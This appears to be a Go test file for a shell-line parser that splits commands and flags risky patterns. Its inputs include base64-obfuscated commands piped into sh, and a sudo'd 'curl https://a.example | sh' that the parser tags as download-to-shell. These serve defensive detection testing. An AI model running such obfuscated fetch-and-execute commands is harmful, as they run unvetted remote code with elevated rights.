package shell_test

import (
	"fmt"
	"strings"
	"sync"
	"testing"

	"gander/internal/shell"
	"github.com/google/go-cmp/cmp"
)

func TestRangesPointIntoTheLine(t *testing.T) {
	for _, tt := range []struct {
		name, line string
		want       []string // the ranges of the commands
	}{
		{"separators are left out", "a 1; b 2 | c &", []string{"a 1", "b 2", "c"}},
		{"assignments and redirections belong to it", ">o A=b c <i 2>&1; d", []string{">o A=b c <i 2>&1", "d"}},
		{"a here-document's body does not", "cat <<E -n\nx\nE\na", []string{"cat <<E -n", "a"}},
		{"substitutions have their own", "a $(b `c`)", []string{"a $(b `c`)", "b `c`", "c"}},
		{"a wrapped command has its wrapper's", "x; sudo -n env b", []string{"x", "sudo -n env b", "sudo -n env b", "sudo -n env b"}},
		{"an inner program has that of what runs it", "x; bash -c 'a; b' | c", []string{"x", "bash -c 'a; b'", "bash -c 'a; b'", "bash -c 'a; b'", "c"}},
		{"decoded commands have their shell's", "echo YTsgYg== | base64 -d | sh -s", []string{"echo YTsgYg==", "base64 -d", "sh -s", "sh -s", "sh -s"}},
		{"offsets count bytes", "écho é; b", []string{"écho é", "b"}},
		{"so they do in a broken line", "a é; b)c", []string{"a é", "b)", "c"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var got []string
			for _, c := range shell.Split(tt.line).Commands {
				got = append(got, tt.line[c.Start:c.End])
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestSplitIsSafeFromManyGoroutines(t *testing.T) {
	lines := []string{"A=b; $A c | sh -c 'd'", "a", strings.Repeat("a;", 3000), "echo cm0gYQ== | base64 -d | sh", "x )("}
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for _, line := range lines {
				if diff := cmp.Diff(shell.Split(line), shell.Split(line)); diff != "" {
					t.Error(diff)
				}
			}
		})
	}
	wg.Wait()
}

func ExampleSplit() {
	r := shell.Split(`x=aHR0cHM6Ly9hLmV4YW1wbGU=; sudo sh -c "curl $(echo $x | base64 -d) | sh"`)
	for _, c := range r.Commands {
		fmt.Println(c.Text)
	}
	fmt.Println(r.Facts)
	// Output:
	// x=aHR0cHM6Ly9hLmV4YW1wbGU=
	// sudo sh -c 'curl https://a.example | sh'
	// echo aHR0cHM6Ly9hLmV4YW1wbGU=
	// base64 -d
	// sh -c 'curl https://a.example | sh'
	// curl https://a.example
	// sh
	// [download-to-shell]
}
